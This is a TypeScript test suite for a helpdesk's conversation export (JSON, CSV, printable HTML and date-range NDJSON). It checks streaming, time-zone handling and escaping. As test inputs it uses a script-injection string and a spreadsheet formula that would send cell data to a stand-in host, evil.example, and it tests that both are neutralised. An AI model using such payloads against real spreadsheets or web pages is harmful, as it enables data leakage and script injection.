import { sql } from 'drizzle-orm';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../../src/admin/export-csv.js';
import { exportRange } from '../../src/admin/export-range.js';
import { openDatabase, rowsOf } from '../../src/db/client.js';
import { PgliteConnection } from '../../src/db/pglite-connection.js';
import { TEST_SECRETS, useTestApp, type TestApp } from '../helpers/app.js';
import { useScratchDatabase } from '../helpers/postgres.js';
import { missing } from '../helpers/requirements.js';
import { bearer, BOOTSTRAP, call, conv, createAgent, createToken, expectError, newUser, say, startSupportChat } from './support.js';

/**
 * Exports: a conversation's whole history as JSON, CSV or a printable page, and every conversation with
 * activity in a date range as JSON Lines; both streamed, a page of messages per statement.
 */

const SCRIPT = '<script>alert(1)</script>';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

/** The GET as raw text (app.inject collects a streamed answer whole). */
async function download(t: TestApp, url: string, headers: Record<string, string> = BOOTSTRAP) {
  const response = await t.app.inject({ method: 'GET', url, headers });
  return { status: response.statusCode, headers: response.headers, body: response.body, json: () => response.json() };
}

/** RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 1; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 1; }
    else field += c;
  }
  if (field !== '' || row.length > 0) throw new Error('the CSV does not end with CRLF');
  return rows;
}

/** A contact in a support chat with an agent, a quoted reply, an agent's reaction, a place, the two hostile texts, an ended chat with a rating. */
async function richConversation(t: TestApp) {
  const { waId, phone } = newUser('80777');
  await startSupportChat(t, waId, 'Ada <b>Obi</b>');
  const first = await t.fake.simulator.sendUserMessage({ from: waId, name: 'Ada <b>Obi</b>', text: SCRIPT });
  if (first.status !== 'success') throw new Error('the simulator refused the message');
  await t.settle();
  await say(t, waId, 'Ada <b>Obi</b>', { text: FORMULA });
  await say(t, waId, 'Ada <b>Obi</b>', { text: 'Line one, "quoted"\nline two', replyTo: first.data.wamid });
  await say(t, waId, 'Ada <b>Obi</b>', { location: { latitude: -33.92, longitude: 18.42, name: 'Office <i>', address: '1 Main Rd' } });
  const grace = await createAgent(t, { name: 'Grace', email: `grace-${waId}@wadesk.test`, password: 'correct horse battery staple' });
  const { token } = await createToken(t, grace.id);
  expect((await call(t, 'POST', conv(phone, '/chat-support/send'), { message: 'We are on it & will reply' }, bearer(token))).status).toBe(200);
  const scriptId = (await call(t, 'GET', conv(phone, '/messages'))).json.data.messages.find((m: { text: string | null }) => m.text === SCRIPT).id;
  expect((await call(t, 'POST', conv(phone, '/reactions'), { message_id: scriptId, emoji: '👍' }, bearer(token))).status).toBe(200);
  await t.settle();
  expect((await call(t, 'POST', '/api/admin/labels', { name: 'billing' })).status).toBe(200);
  expect((await call(t, 'PUT', conv(phone, '/labels'), { labels: ['billing'] })).status).toBe(200);
  expect((await call(t, 'POST', conv(phone, '/chat-support/end'), { message: 'Bye' })).status).toBe(200);
  await t.settle();
  await t.database.db.execute(sql`update chat_sessions set csat_status = 'rated', csat_rating = 4, csat_comment = ${'Quick =1+1 <b>'}, csat_rated_at = now()
    where conversation_id = (select id from conversations where phone_number = ${phone})`);
  return { waId, phone };
}

describe('the conversation export', () => {
  const t = useTestApp();
  let ada: { waId: string; phone: string };
  let history: any[];
  beforeAll(async () => {
    ada = await richConversation(t);
    history = (await call(t, 'GET', conv(ada.phone, '/messages?limit=500'))).json.data.messages;
  });

  it('writes the contact, the chats with their rating and every message, as the history shows them, in a JSON download', async () => {
    const answer = await download(t, conv(ada.phone, '/export?format=json'));
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(answer.headers['content-disposition']).toMatch(new RegExp(`^attachment; filename="conversation-Ada-b-Obi-b-${ada.waId}-\\d{4}-\\d\\d-\\d\\d\\.json"$`));
    expect(answer.headers['cache-control']).toBe('no-store');
    const doc = answer.json();
    expect(Object.keys(doc)).toEqual(['exported_at', 'contact', 'chats', 'messages']);
    expect(doc.contact).toMatchObject({ name: 'Ada <b>Obi</b>', phone_number: ada.phone, wa_id: ada.waId, profile_name: 'Ada <b>Obi</b>', labels: ['billing'] });
    expect(doc.chats).toHaveLength(1);
    expect(doc.chats[0]).toMatchObject({
      started_by: 'user', ended_by: 'agent', closing_message: 'Bye', assigned_agent_name: 'Grace', first_response_at: expect.any(String), csat_status: 'rated', csat_rating: 4, csat_comment: 'Quick =1+1 <b>', csat_rated_at: expect.any(String),
    });
    // The very messages of GET …/messages, in the same order and shape.
    expect(doc.messages).toEqual(history);
    expect(doc.messages.map((m: { text: string | null }) => m.text)).toEqual(expect.arrayContaining([SCRIPT, FORMULA]));
    // Also by the conversation's id, and JSON is the default.
    const byId = await download(t, `/api/admin/conversations/${doc.contact.id}/export`);
    expect(byId.json().messages).toEqual(history);
  });

  it('writes one CSV row per message, quoted as RFC 4180 says, with a BOM, and formulas defused', async () => {
    const answer = await download(t, conv(ada.phone, '/export?format=csv'));
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="conversation-[A-Za-z0-9.-]+\.csv"$/);
    expect(answer.body.startsWith('\uFEFFmessage_id,time,direction,sender,agent,type,text,')).toBe(true);
    const [header, ...rows] = parseCsv(answer.body.slice(1));
    expect(rows).toHaveLength(history.length);
    const column = (name: string) => header!.indexOf(name);
    const byId = new Map(rows.map((row) => [Number(row[column('message_id')]), row]));
    expect(rows.map((row) => Number(row[0]))).toEqual(history.map((m) => m.id));
    const textOf = (text: string) => byId.get(history.find((m) => m.text === text).id)!;
    expect(textOf(SCRIPT)[column('text')]).toBe(SCRIPT);
    expect(textOf(FORMULA)[column('text')]).toBe(`'${FORMULA}`);
    const reply = textOf('Line one, "quoted"\nline two');
    expect(reply[column('quoted_text')]).toBe(SCRIPT);
    expect(answer.body).toContain('"Line one, ""quoted""\nline two"');
    expect(textOf(SCRIPT)[column('reactions')]).toBe('👍 (agent)');
    const place = rows.find((row) => row[column('type')] === 'location')!;
    // A negative latitude is a number, not a formula.
    expect([place[column('latitude')], place[column('longitude')], place[column('place')]]).toEqual(['-33.92', '18.42', 'Office <i>, 1 Main Rd']);
    expect(textOf('We are on it & will reply')[column('agent')]).toBe('Grace');
    // Every cell that would start a formula carries the apostrophe.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
  });

  it('writes a printable page with every user-supplied text escaped and no script', async () => {
    const answer = await download(t, conv(ada.phone, '/export?format=html'));
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(answer.headers['content-disposition']).toMatch(/^inline; filename="conversation-[A-Za-z0-9.-]+\.html"$/);
    expect(answer.headers['content-security-policy']).toContain("default-src 'none'");
    const html = answer.body;
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toContain('@media print');
    expect(html).not.toMatch(/<script|<b>|<i>|onerror/i);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('Conversation with Ada &lt;b&gt;Obi&lt;/b&gt;');
    expect(html).toContain('We are on it &amp; will reply');
    expect(html).toContain('Line one, &quot;quoted&quot;\nline two');
    expect(html).toContain('Quick =1+1 &lt;b&gt;');
    expect(html).toContain('★★★★☆ 4/5');
    expect(html).toContain('<dt>Labels</dt><dd>billing</dd>');
    expect(html).toContain(`${history.length} messages`);
    expect(html.match(/<article /g)).toHaveLength(history.length);
    expect(html.trimEnd().endsWith('</html>')).toBe(true);
  });

  it('refuses an unknown format with 400 and an unknown contact with 404', async () => {
    const format = await call(t, 'GET', conv(ada.phone, '/export?format=xlsx'));
    expectError(format, 400, 'UNKNOWN_FORMAT');
    expect(format.json.error.message).toBe('format must be json, csv or html.');
    expectError(await call(t, 'GET', conv('+2348099999999', '/export?format=csv')), 404, 'NOT_FOUND');
    expectError(await call(t, 'GET', '/api/admin/conversations/00000000-0000-4000-8000-000000000000/export'), 404, 'NOT_FOUND');
    expectError(await call(t, 'GET', conv('12', '/export')), 400, /INVALID/);
  });

  it('needs credentials, and takes the inbox session cookie', async () => {
    expectError(await call(t, 'GET', conv(ada.phone, '/export'), undefined, {}), 401, /UNAUTHORIZED/);
    expectError(await call(t, 'GET', '/api/admin/export?from=2025-01-01&to=2025-01-02', undefined, {}), 401, /UNAUTHORIZED/);
    const login = { name: 'Grace', email: `grace-export-${Date.now()}@wadesk.test`, password: 'correct horse battery staple' };
    expect((await call(t, 'POST', '/api/admin/agents', { ...login, role: 'agent' })).status).toBe(201);
    const signedIn = await t.app.inject({ method: 'POST', url: '/api/admin/auth/login', payload: { email: login.email, password: login.password } });
    const cookie = String(signedIn.headers['set-cookie']).split(';')[0]!;
    const answer = await download(t, conv(ada.phone, '/export?format=csv'), { cookie });
    expect(answer.status).toBe(200);
  });
});

describe('a long conversation', () => {
  const t = useTestApp();
  const seen: Array<{ text: string; rows: number }> = [];
  const query = PgliteConnection.prototype.query;
  afterEach(() => {
    PgliteConnection.prototype.query = query;
  });

  it('is streamed in chunks as it is read, 500 messages per statement, complete and in order', { timeout: 60_000 }, async () => {
    const { waId, phone } = newUser('80778');
    await say(t, waId, 'Long', { text: 'Hello' });
    const [{ id }] = rowsOf<{ id: string }>(await t.database.db.execute(sql`select id from conversations where phone_number = ${phone}`)) as [{ id: string }];
    await t.database.db.execute(sql`
      insert into messages (conversation_id, direction, sender, type, text, status, created_at)
      select ${id}::uuid, 'inbound', 'user', 'text', 'message ' || g || ', "' || repeat('x', g % 50) || '"', 'received', now() + g * interval '1 millisecond'
      from generate_series(1, 10000) g`);
    const total = 10_000 + rowsOf<{ n: number }>(await t.database.db.execute(sql`select count(*)::int - 10000 as n from messages where conversation_id = ${id}::uuid`))[0]!.n;

    PgliteConnection.prototype.query = async function (this: PgliteConnection, ...args: Parameters<typeof query>) {
      const result = await query.apply(this, args);
      if (/from "messages" left join "agents"/.test(args[0]) && /order by "messages"\."id" asc/.test(args[0])) seen.push({ text: args[0], rows: result.rows.length });
      return result;
    } as typeof query;

    const response = await fetch(`${t.url}${conv(phone, '/export?format=json')}`, { headers: BOOTSTRAP });
    expect(response.status).toBe(200);
    expect(response.headers.get('transfer-encoding')).toBe('chunked');
    expect(response.headers.get('content-length')).toBeNull();
    let chunks = 0;
    let body = '';
    const decoder = new TextDecoder();
    for await (const chunk of response.body!) {
      chunks += 1;
      body += decoder.decode(chunk as Uint8Array, { stream: true });
    }
    expect(chunks).toBeGreaterThan(1);
    const doc = JSON.parse(body);
    expect(doc.messages).toHaveLength(total);
    const ids = doc.messages.map((m: { id: number }) => m.id);
    expect(ids).toEqual([...ids].sort((a, b) => a - b));
    expect(new Set(ids).size).toBe(total);
    expect(doc.messages.at(-1).text).toBe('message 10000, ""');

    // Read a page at a time: ceil(total / 500) full or partial pages, and no page above 500.
    expect(seen.length).toBeGreaterThanOrEqual(Math.ceil(total / 500));
    expect(seen.length).toBeLessThanOrEqual(Math.ceil(total / 500) + 1);
    expect(Math.max(...seen.map((s) => s.rows))).toBe(500);
    expect(seen.reduce((sum, s) => sum + s.rows, 0)).toBe(total);

    const csv = await fetch(`${t.url}${conv(phone, '/export?format=csv')}`, { headers: { authorization: `Bearer ${TEST_SECRETS.adminToken}` } });
    const rows = parseCsv((await csv.text()).slice(1));
    expect(rows).toHaveLength(total + 1);
    expect(rows.at(-1)![6]).toBe('message 10000, ""');
  });
});

/** The range export's specification, run on PGlite and on a PostgreSQL server (their drivers read rows differently). */
function rangeExport(t: TestApp) {
  const at = (iso: string) => sql`${iso}::timestamptz`;
  let march: { phone: string; id: string };
  let spread: { phone: string; id: string };
  let may: { phone: string; id: string };

  /**
   * A contact in a support chat who then writes "<name> 1", "<name> 2"…: everything before those is moved to
   * `times[0]`, the nth text to `times[n]`; the chat lasts from the first time to the last.
   */
  async function contactAt(name: string, times: string[]) {
    const { waId, phone } = newUser('80779');
    await startSupportChat(t, waId, name);
    for (let n = 1; n < times.length; n += 1) await say(t, waId, name, { text: `${name} ${n}` });
    const [{ id }] = rowsOf<{ id: string }>(await t.database.db.execute(sql`select id from conversations where phone_number = ${phone}`)) as [{ id: string }];
    await t.database.db.execute(sql`update messages set created_at = ${at(times[0]!)} where conversation_id = ${id}::uuid`);
    for (let n = 1; n < times.length; n += 1) {
      await t.database.db.execute(sql`update messages set created_at = ${at(times[n]!)} where conversation_id = ${id}::uuid and text = ${`${name} ${n}`}`);
    }
    await t.database.db.execute(sql`update chat_sessions set started_at = ${at(times[0]!)}, ended_at = ${at(times.at(-1)!)} where conversation_id = ${id}::uuid`);
    return { phone, id };
  }

  beforeAll(async () => {
    march = await contactAt('March', ['2025-03-10T09:00:00Z', '2025-03-10T09:05:00Z']);
    expect((await call(t, 'POST', '/api/admin/labels', { name: 'exams' })).status).toBe(200);
    expect((await call(t, 'PUT', conv(march.phone, '/labels'), { labels: ['exams'] })).status).toBe(200);
    spread = await contactAt('Spread', ['2025-02-27T10:00:00Z', '2025-03-31T23:30:00Z', '2025-04-02T08:00:00Z']);
    may = await contactAt('May', ['2025-05-01T12:00:00Z', '2025-05-01T12:01:00Z']);
  });

  const lines = (body: string) => body.split('\n').filter((line) => line !== '').map((line) => JSON.parse(line));

  it('writes one JSON line per conversation with activity in the range, with only its messages and chats in the range', async () => {
    const answer = await download(t, '/api/admin/export?from=2025-03-01&to=2025-03-31');
    expect(answer.status).toBe(200);
    expect(answer.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(answer.headers['content-disposition']).toBe('attachment; filename="wadesk-export-2025-03-01-to-2025-03-31.ndjson"');
    expect(answer.body.endsWith('\n')).toBe(true);
    const found = lines(answer.body);
    expect(found.map((line) => line.contact.phone_number).sort()).toEqual([march.phone, spread.phone].sort());
    for (const line of found) {
      expect(Object.keys(line)).toEqual(['contact', 'chats', 'messages']);
      expect(line.chats).toHaveLength(1);
      for (const m of line.messages) expect(m.timestamp >= '2025-03-01' && m.timestamp < '2025-04-01').toBe(true);
    }
    const spreadLine = found.find((line) => line.contact.id === spread.id);
    expect(spreadLine.messages.map((m: { text: string }) => m.text)).toEqual(['Spread 1']);
    const marchLine = found.find((line) => line.contact.id === march.id);
    expect(marchLine.messages.length).toBeGreaterThan(1);
    expect(marchLine.contact).toMatchObject({ name: 'March', phone_number: march.phone, labels: ['exams'] });
    expect(spreadLine.contact.labels).toEqual([]);
    expect(found.some((line) => line.contact.id === may.id)).toBe(false);
  });

  it('reads the days in the time zone given', async () => {
    // 2025-03-31T23:30Z is already 1 April in Lagos (UTC+1).
    const utc = lines((await download(t, '/api/admin/export?from=2025-03-31&to=2025-03-31')).body);
    expect(utc.map((line) => line.contact.id)).toEqual([spread.id]);
    const lagos = lines((await download(t, '/api/admin/export?from=2025-03-31&to=2025-03-31&tz=Africa/Lagos')).body);
    expect(lagos).toEqual([]);
    const april = lines((await download(t, '/api/admin/export?from=2025-04-01&to=2025-04-01&tz=Africa/Lagos')).body);
    expect(april.map((line) => line.messages.map((m: { text: string }) => m.text))).toEqual([['Spread 1']]);
    expect(lines((await download(t, '/api/admin/export?from=2024-01-01&to=2024-12-31')).body)).toEqual([]);
  });

  it.each([
    ['a missing day', '/api/admin/export?from=2025-03-01', 'VALIDATION_ERROR'],
    ['a day that does not exist', '/api/admin/export?from=2025-02-29&to=2025-03-01', 'INVALID_DATE'],
    ['a day written otherwise', '/api/admin/export?from=01/03/2025&to=2025-03-31', 'INVALID_DATE'],
    ['from after to', '/api/admin/export?from=2025-04-01&to=2025-03-01', 'INVALID_RANGE'],
    ['more than 366 days', '/api/admin/export?from=2024-01-01&to=2025-01-01', 'RANGE_TOO_LONG'],
    ['an unknown time zone', '/api/admin/export?from=2025-03-01&to=2025-03-02&tz=Mars/Olympus', 'INVALID_TIME_ZONE'],
  ])('refuses %s with a clear 400', async (_, url, code) => {
    const answer = await call(t, 'GET', url);
    expectError(answer, 400, code);
  });

  it('takes a leap year whole', async () => {
    expect((await download(t, '/api/admin/export?from=2024-01-01&to=2024-12-31')).status).toBe(200);
  });
}

describe('the export of a date range', () => {
  rangeExport(useTestApp());
});

describe.skipIf(missing('postgres'))('the export of a date range on PostgreSQL', () => {
  const scratch = useScratchDatabase();
  rangeExport(useTestApp(async () => ({ database: await openDatabase({ databaseUrl: scratch.url }), closeDatabase: true })));
});

/** What a spreadsheet is handed: formulas defused, RFC 4180 quoting. */
describe('a CSV field', () => {
  it.each([
    ['=1+1', "'=1+1"], ['+1', "'+1"], ['-2+3', "'-2+3"], ['@SUM(A1)', "'@SUM(A1)"], ['\tx', "'\tx"], ['\rx', '"\'\rx"'],
    ['-33.92', '-33.92'], ['-7', '-7'], ['a,b', '"a,b"'], ['say "hi"', '"say ""hi"""'], ['two\nlines', '"two\nlines"'], ['plain', 'plain'],
  ])('writes %j as %j', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it('writes nothing for null and a number as it is', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(42)).toBe('42');
  });
});

/** Which instants `from`, `to` and `tz` stand for. */
describe('the range of days', () => {
  const range = (from: string, to: string, tz?: string) => {
    const { start, end } = exportRange({ from, to, tz });
    return [start.toISOString(), end.toISOString()];
  };

  it('runs from the start of the first day to the end of the last, in UTC by default', () => {
    expect(range('2025-03-01', '2025-03-31')).toEqual(['2025-03-01T00:00:00.000Z', '2025-04-01T00:00:00.000Z']);
    expect(range('2024-02-29', '2024-02-29')).toEqual(['2024-02-29T00:00:00.000Z', '2024-03-01T00:00:00.000Z']);
  });

  it('reads the days in the time zone given, across a change of clocks', () => {
    expect(range('2025-01-01', '2025-01-01', 'Asia/Kolkata')).toEqual(['2024-12-31T18:30:00.000Z', '2025-01-01T18:30:00.000Z']);
    // London moves to summer time at 01:00 UTC on 30 March 2025: that day lasts 23 hours.
    expect(range('2025-03-30', '2025-03-30', 'Europe/London')).toEqual(['2025-03-30T00:00:00.000Z', '2025-03-30T23:00:00.000Z']);
    expect(range('2025-11-02', '2025-11-02', 'America/New_York')).toEqual(['2025-11-02T04:00:00.000Z', '2025-11-03T05:00:00.000Z']);
  });
});
